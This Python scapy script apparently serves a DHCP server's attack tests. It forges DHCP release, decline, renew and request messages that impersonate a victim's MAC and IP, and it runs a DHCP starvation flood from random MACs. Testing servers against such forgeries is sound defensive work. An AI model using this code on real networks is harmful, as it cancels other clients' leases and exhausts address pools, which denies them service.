"""Forged DHCP from a hostile device (scapy), for the attack tests.

    python3 dhcp_forge.py IFACE renew|rebind|init-reboot|discover|release|decline MAC IP SERVER [COUNT]
    python3 dhcp_forge.py IFACE flood N RATE

The forged messages claim another device: chaddr and the frame's source are the
victim's MAC, ciaddr/requested address the victim's address. `flood` sends N DISCOVERs
from N random locally administered MACs at RATE per second: it prints "flooding" once the
frames are built (scapy takes seconds for thousands on a loaded machine), then what it sent.
"""
import random
import sys
import time

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, sendp

conf.verb = 0


def chaddr(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", "")) + b"\0" * 10


def forged(kind: str, mac: str, ip: str, server: str):
    xid = random.getrandbits(32)
    ether = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
    if kind in ("renew", "release"):   # unicast to the server, from the victim's address
        ether, net = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff"), IP(src=ip, dst=server)
    elif kind == "rebind":
        net = IP(src=ip, dst="255.255.255.255")
    else:
        net = IP(src="0.0.0.0", dst="255.255.255.255")
    boot = {"renew": BOOTP(chaddr=chaddr(mac), xid=xid, ciaddr=ip, flags=0x8000),
            "rebind": BOOTP(chaddr=chaddr(mac), xid=xid, ciaddr=ip, flags=0x8000),
            "release": BOOTP(chaddr=chaddr(mac), xid=xid, ciaddr=ip)}.get(kind, BOOTP(chaddr=chaddr(mac), xid=xid,
                                                                                     flags=0x8000))
    options = {"renew": [("message-type", "request")],
               "rebind": [("message-type", "request")],
               "init-reboot": [("message-type", "request"), ("requested_addr", ip)],
               "discover": [("message-type", "discover")],
               "release": [("message-type", "release"), ("server_id", server)],
               "decline": [("message-type", "decline"), ("requested_addr", ip), ("server_id", server)]}[kind]
    return ether / net / UDP(sport=68, dport=67) / boot / DHCP(options=options + ["end"])


def flood(iface: str, n: int, rate: float) -> None:
    rng = random.Random()
    frames = []
    for _ in range(n):
        mac = "02:" + ":".join(f"{rng.randrange(256):02x}" for _ in range(5))
        frames.append(forged("discover", mac, "0.0.0.0", ""))
    sock = conf.L2socket(iface=iface)
    print("flooding", flush=True)
    start = time.monotonic()
    try:
        for i, frame in enumerate(frames):
            delay = start + i / rate - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            sock.send(frame)
    finally:
        sock.close()
    print(f"sent {n} DISCOVERs in {time.monotonic() - start:.1f}s")


def main() -> None:
    iface, kind = sys.argv[1], sys.argv[2]
    if kind == "flood":
        flood(iface, int(sys.argv[3]), float(sys.argv[4]))
        return
    mac, ip, server = sys.argv[3], sys.argv[4], sys.argv[5]
    count = int(sys.argv[6]) if len(sys.argv) > 6 else 3
    sendp(forged(kind, mac, ip, server), iface=iface, count=count, inter=0.05)
    print(f"sent {count} forged {kind} for {mac} {ip}")


if __name__ == "__main__":
    main()
